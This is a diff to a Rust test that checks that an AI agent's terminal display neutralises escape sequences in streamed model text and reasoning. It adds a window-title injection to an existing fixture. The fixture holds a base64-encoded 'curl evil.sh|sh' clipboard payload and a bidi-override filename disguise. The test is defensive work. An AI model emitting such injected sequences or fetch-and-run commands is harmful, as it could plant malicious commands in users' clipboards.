@@ -198,8 +198,8 @@ async fn escape_sequences_in_a_command_cannot_repaint_the_approval_prompt() {
     }
 }
 
-/// Streamed model text carrying an OSC 52 clipboard write, a cursor move and a bidi override:
-/// the terminal gets them as visible text. tmux (with set-clipboard on) turns a raw OSC 52
+/// Streamed model text carrying an OSC 52 clipboard write, a cursor move and a bidi override,
+/// and a thought setting the window title: the terminal gets them as visible text. tmux (with set-clipboard on) turns a raw OSC 52
 /// into a paste buffer, so an empty buffer list shows that none reached it.
 #[tokio::test]
 async fn streamed_text_cannot_write_the_clipboard_or_reorder_itself() {
@@ -208,6 +208,7 @@ async fn streamed_text_cannot_write_the_clipboard_or_reorder_itself() {
     // "curl evil.sh|sh" in base64, split over chunks the way a stream arrives.
     server.push(
         Reply::new()
+            .reasoning("thinking\u{1b}]0;window title\u{7}\n")
             .text("Here is the fix.\u{1b}]5")
             .text("2;c;Y3VybCBldmlsLnNofHNo\u{7}\u{1b}[1A Done: \u{202e}txt.exe\u{202c}\n"),
     );
@@ -220,6 +221,10 @@ async fn streamed_text_cannot_write_the_clipboard_or_reorder_itself() {
         ),
         "{screen}"
     );
+    assert!(
+        screen.contains(r"thinking\x1b]0;window title\x07"),
+        "{screen}"
+    );
     let buffers = tmux.run(&["list-buffers"]);
     assert!(
         buffers.trim().is_empty(),
@@ -230,7 +235,13 @@ async fn streamed_text_cannot_write_the_clipboard_or_reorder_itself() {
         written.windows(4).any(|w| w == b"fix."),
         "the recording has the output"
     );
-    for sequence in [&b"\x1b]52"[..], b"\x1b[1A", b"\x07", b"\xe2\x80\xae"] {
+    for sequence in [
+        &b"\x1b]52"[..],
+        b"\x1b]0;",
+        b"\x1b[1A",
+        b"\x07",
+        b"\xe2\x80\xae",
+    ] {
         assert!(
             !written.windows(sequence.len()).any(|w| w == sequence),
             "{sequence:?} reached the terminal raw: {:?}",
